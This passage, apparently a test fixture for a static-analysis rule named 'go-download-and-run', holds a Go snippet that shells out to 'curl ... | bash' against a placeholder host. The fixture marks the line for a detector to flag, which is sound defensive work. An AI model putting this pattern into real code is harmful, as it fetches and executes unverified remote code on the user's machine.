// ruleid: go-download-and-run
cmd := exec.Command("bash", "-c", "curl -s https://example.com/setup.sh | bash")
cmd.Stdout = os.
